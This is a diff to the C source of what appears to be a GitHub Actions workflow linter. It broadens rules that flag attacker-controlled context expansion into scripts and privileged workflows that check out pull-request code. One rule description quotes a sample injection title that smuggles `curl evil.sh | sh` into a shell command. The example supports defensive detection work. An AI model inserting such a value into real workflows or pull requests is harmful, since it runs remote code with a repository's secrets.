@@ -81,8 +81,10 @@ static const struct wl_rule ci_rules[] = {
 		"Attacker-controlled GitHub context expanded inside a script",
 		"A `${{ ... }}` expression that an outsider controls (issue or pull-request titles and "
 		"bodies, comments, review bodies, commit messages, branch names such as "
-		"github.head_ref, ...) is expanded textually into a `run:` script or a "
-		"github-script `script:` before the shell runs it. A title like "
+		"github.head_ref, ...) is expanded textually into a `run:` script, or into an action "
+		"input that runs code (github-script `script`, yq `cmd`, azure/cli `inlineScript`, ...), "
+		"before it runs: directly, or through an `env:` value, a step or job output or a matrix "
+		"entry set from one (those are notes to review). A title like "
 		"`a\"; curl evil.sh | sh; echo \"` becomes code running with the workflow's token "
 		"and secrets.",
 		"Never expand untrusted contexts inside the script. Pass them through an environment "
@@ -93,8 +95,8 @@ static const struct wl_rule ci_rules[] = {
 	},
 	{
 		"WL506", "untrusted-checkout-in-privileged-workflow",
-		"pull_request_target / workflow_run workflow checks out the pull request's code",
-		"A workflow triggered by pull_request_target (or workflow_run) runs in the base "
+		"pull_request_target / workflow_run / issue_comment workflow checks out the pull request's code",
+		"A workflow triggered by pull_request_target, workflow_run or issue_comment runs in the base "
 		"repository's context with a write token and access to secrets. Checking out the "
 		"pull request head (ref: github.event.pull_request.head.sha / head.ref, refs/pull/N, "
 		"gh pr checkout) and then building or testing it runs the attacker's code with those "
@@ -339,7 +341,17 @@ static void check_ci(struct wl_ctx *ctx, const struct wl_fact *fact)
 	const struct wl_ci_fact *c = fact->data;
 	struct wl_finding *f;
 	if (c->kind == WL_CI_SCRIPT_INJECTION) {
-		if (c->weak)
+		if (c->via && c->weak)
+			f = wl_report(ctx, "WL505", &fact->loc,
+				      "`%s` expands `%s`, %s, into a %s: review that it cannot carry outside text, "
+				      "or pass it through `env:` and use \"$VAR\" instead",
+				      c->expr, c->context, c->via, c->where);
+		else if (c->via)
+			f = wl_report(ctx, "WL505", &fact->loc,
+				      "`%s` expands `%s`, %s, attacker-controlled, into a %s; pass it through `env:` "
+				      "and use \"$VAR\" instead",
+				      c->expr, c->context, c->via, c->where);
+		else if (c->weak)
 			f = wl_report(ctx, "WL505", &fact->loc,
 				      "`%s` expands the caller-supplied %s into a %s: safe only while every caller "
 				      "passes a trusted value; pass it through `env:` and use \"$VAR\" instead",
@@ -417,6 +429,8 @@ static void ci_finish(struct wl_ctx *ctx, const struct wl_fact *const *facts, si
 			m = find_requirements(facts, n, s->paths[k]);
 			path = s->paths[k];
 		}
+		if (!m && s->require_hashes)
+			continue; /* --require-hashes: pip refuses any requirement without a hash */
 		if (!m) {
 			f = wl_report(ctx, "WL507", &facts[i]->loc,
 				      "%s installs from `%s`, which is not a requirements file in this repository, "
